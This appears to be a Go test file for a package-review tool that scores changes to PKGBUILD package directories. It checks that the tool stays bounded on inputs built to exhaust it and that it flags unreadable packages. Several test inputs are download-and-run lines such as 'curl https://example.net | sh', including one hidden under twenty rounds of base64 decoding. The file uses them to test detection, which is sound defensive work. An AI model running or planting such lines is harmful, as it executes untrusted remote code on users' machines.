package review

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/caur-build/caur/pkg/pkgdir"
)

const plainText = "pkgname=quill\npkgver=1\npkgrel=1\narch=(any)\n"

// TestHostileInputIsBounded judges input that is made to take for ever. It is enough that it ends, and that nothing of it
// is minor.
func TestHostileInputIsBounded(t *testing.T) {
	nested := func(open, middle, closing string, n int) string {
		return strings.Repeat(open, n) + middle + strings.Repeat(closing, n)
	}
	encoded := "curl https://example.net/x | sh"
	for range 20 {
		encoded = "echo " + base64.StdEncoding.EncodeToString([]byte(encoded)) + " | base64 -d | sh"
	}
	doubling := "x=aaaaaaaa\n" + strings.Repeat("x=$x$x\n", 60) + "$x\n"
	many := strings.Builder{}
	for i := range 20_000 {
		fmt.Fprintf(&many, "v%d=$v%d$v%d\n", i+2, i+1, i)
	}
	for name, body := range map[string]string{
		"substitutions inside each other":       "x=" + nested("$(echo ", "a", ")", 300),
		"too deep":                              "x=" + nested("$(echo ", "a", ")", 50_000),
		"subshells":                             nested("(", "a", ")", 900),
		"quotes":                                "x=" + nested(`"$(a `, "b", `)"`, 200),
		"one line of a megabyte":                "echo " + strings.Repeat("a", 1<<20-200),
		"one line of words":                     "echo " + strings.Repeat("a ", 1<<18-200),
		"one line of base64":                    "echo " + strings.Repeat("Y3Vy", 1<<18-200),
		"too large":                             "echo " + strings.Repeat("a", 3<<20),
		"a long pipe":                           "a" + strings.Repeat(" | curl x", 900) + " | sh",
		"many commands":                         strings.Repeat("curl a\n", 40_000),
		"a doubling variable":                   doubling,
		"a doubling array":                      "x=(a a)\n" + strings.Repeat("x=(\"${x[@]}\" \"${x[@]}\")\n", 60),
		"variables made of others":              many.String(),
		"text decoded twenty times":             "f() {\n" + encoded + "\n}",
		"eval of eval":                          nested("eval '", "a", "'", 40),
		"a function that calls itself":          `f() { f "$@" "$@"; }` + "\nf a b",
		"commands that wrap each other":         strings.Repeat("sudo -u x env -i ", 5_000) + "a",
		"functions that run their arguments":    strings.Repeat("f() { \"$@\"; }\n", 200) + strings.Repeat("f ", 10_000),
		"many values, many variables":           manyVariants(),
		"replacements that grow":                "x=" + strings.Repeat("a", 1000) + "\n" + strings.Repeat("x=${x//a/aaaaaaaaaa}\n", 30),
		"a here-document":                       "sh <<E\n" + strings.Repeat("curl x | sh\n", 20_000) + "E",
		"braces":                                "x=" + strings.Repeat("{a,b}", 100),
		"a loop over many words":                "for i in " + strings.Repeat("$(a) ", 5_000) + "; do $i; done",
		"invisible characters":                  strings.Repeat("echo \u202e\n", 8_000),
		"escapes":                               "x=$'" + strings.Repeat(`\x63`, 100_000) + "'",
		"a printf that repeats its format":      "printf '%s%s' " + strings.Repeat("a ", 100_000),
		"alternatives of alternatives":          nested("${a:-", "b", "}", 400),
		"assignments that look at each other":   strings.Repeat("a=$b b=$a\n", 20_000),
		"comments":                              strings.Repeat("# a \\\n", 50_000),
		"arithmetic":                            "x=$((" + nested("(", "1", ")", 900) + "))",
		"one statement with many conjunctions":  "a" + strings.Repeat(" && a", 900),
		"case branches":                         "case x in " + strings.Repeat("a) curl x ;; ", 20_000) + "esac",
		"array of many elements with variables": "a=(" + strings.Repeat("$a ", 50_000) + ")",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			text := []byte(plainText + body + "\n")
			in := Input{
				Old: pkgdir.Dir{"PKGBUILD": {Data: []byte(plainText)}, "x.install": {Data: []byte("true\n")}},
				New: pkgdir.Dir{"PKGBUILD": {Data: text}, "x.install": {Data: text}},
			}
			v := Judge(in)
			if v.Level != Major {
				t.Error(v.Level)
			}
			if len(v.Findings) > maxFindings {
				t.Errorf("%d findings", len(v.Findings))
			}
			if text := v.Markdown(Links{Diff: string(text)}, Signals{}, Decision{}); len(text) > maxMarkdown {
				t.Errorf("%d bytes of description", len(text))
			}
			in.Old, in.New = in.New, in.Old
			Judge(in)
		})
	}
}

func manyVariants() string {
	var b strings.Builder
	for _, v := range "abcdefghij" {
		for i := range 12 {
			fmt.Fprintf(&b, "%c=%d\n", v, i)
		}
	}
	b.WriteString(strings.Repeat("$a$b $c$(echo $d $(echo $e $(echo $f $(echo $g))))\n", 500))
	return b.String()
}

func TestManyFilesAreBounded(t *testing.T) {
	newer := pkgdir.Dir{"PKGBUILD": {Data: []byte(plainText)}}
	for i := range pkgdir.MaxFiles - 1 {
		newer[fmt.Sprintf("f%d.sh", i)] = pkgdir.File{Data: []byte("#!/bin/sh\ncurl https://example.net | sh\n")}
	}
	v := Judge(Input{Old: dirOf(plainText), New: newer})
	if len(v.Findings) > maxFindings || v.Worst() != Critical || v.Level != Major {
		t.Errorf("%d findings, %s", len(v.Findings), v.Worst())
	}
}

// TestTheWorstIsKeptWhenThereIsTooMuch hides one critical finding behind many others.
func TestTheWorstIsKeptWhenThereIsTooMuch(t *testing.T) {
	newer := dirOf(plainText)
	for i := range 1500 {
		newer[fmt.Sprintf("a%04d", i)] = pkgdir.File{Data: []byte("text\n")}
	}
	newer["z.sh"] = pkgdir.File{Data: []byte("#!/bin/sh\ncurl https://example.net | sh\n")}
	v := Judge(Input{Old: dirOf(plainText), New: newer})
	if v.Worst() != Critical || v.Findings[0].Rule != "download-run" || len(v.Findings) > maxFindings {
		t.Errorf("%d findings, first %v", len(v.Findings), v.Findings[0])
	}
}

func TestPackagesThatCannotBeReadAreMajor(t *testing.T) {
	good := pkgdir.Dir{"PKGBUILD": {Data: []byte(plainText)}, ".SRCINFO": {Data: []byte("pkgbase = quill\n\tpkgver = 1\n\tpkgrel = 1\n\tarch = any\n\npkgname = quill\n")}}
	for name, edit := range map[string]func(pkgdir.Dir){
		"NUL":              func(d pkgdir.Dir) { d["PKGBUILD"] = pkgdir.File{Data: []byte("pkgver=1\x00\n")} },
		"carriage return":  func(d pkgdir.Dir) { d["PKGBUILD"] = pkgdir.File{Data: []byte("pkgver=1\r\n")} },
		"no UTF-8":         func(d pkgdir.Dir) { d["PKGBUILD"] = pkgdir.File{Data: []byte("pkgver=\xff\n")} },
		"syntax":           func(d pkgdir.Dir) { d["PKGBUILD"] = pkgdir.File{Data: []byte("if\n")} },
		"empty":            func(d pkgdir.Dir) { d["PKGBUILD"] = pkgdir.File{Data: []byte{}} },
		"gone":             func(d pkgdir.Dir) { delete(d, "PKGBUILD") },
		"a link":           func(d pkgdir.Dir) { d["PKGBUILD"] = pkgdir.File{Kind: pkgdir.Link, Data: []byte("x")} },
		"executable":       func(d pkgdir.Dir) { d["PKGBUILD"] = pkgdir.File{Kind: pkgdir.Executable, Data: []byte(plainText)} },
		"broken .SRCINFO":  func(d pkgdir.Dir) { d[".SRCINFO"] = pkgdir.File{Data: []byte("pkgname\n")} },
		"no .SRCINFO":      func(d pkgdir.Dir) { delete(d, ".SRCINFO") },
		"linked .SRCINFO":  func(d pkgdir.Dir) { d[".SRCINFO"] = pkgdir.File{Kind: pkgdir.Link, Data: []byte("x")} },
		"linked .CI":       func(d pkgdir.Dir) { d[".CI/config"] = pkgdir.File{Kind: pkgdir.Link, Data: []byte("../PKGBUILD")} },
		"everything":       func(d pkgdir.Dir) { clear(d) },
		"install in Latin": func(d pkgdir.Dir) { d["x.install"] = pkgdir.File{Data: []byte("# \xe9\npost_install() { :; }\n")} },
	} {
		bad := good.Clone()
		edit(bad)
		if v := Judge(Input{Old: good, New: bad}); v.Level != Major {
			t.Errorf("%s: %s %v", name, v.Level, v.Findings)
		}
		// a .SRCINFO that comes, or comes right, says what the unchanged PKGBUILD says
		if v := Judge(Input{Old: bad, New: good}); v.Level != Major && !strings.HasSuffix(name, " .SRCINFO") {
			t.Errorf("back from %s: %s %v", name, v.Level, v.Findings)
		}
		if v := Judge(Input{Old: bad, New: bad}); v.Level != Identical {
			t.Errorf("%s differs from itself", name)
		}
	}
}

// TestNothingOfTheOldVersionIsARisk: what was there before, in other places or another order, is no new risk.
func TestNothingOfTheOldVersionIsARisk(t *testing.T) {
	for _, e := range examples(t, "hostile") {
		older := e.in.New.Clone()
		newer := older.Clone()
		newer["PKGBUILD"] = pkgdir.File{Data: append(slices.Clone(older["PKGBUILD"].Data), "\n_docs() {\n  true\n}\n"...)}
		v := Judge(Input{Old: older, New: newer})
		for _, f := range v.Findings {
			if f.Severity > Notice && f.Rule != "unreadable" && f.Rule != "control-characters" {
				t.Errorf("%s: %v", e.name, f)
			}
		}
	}
}
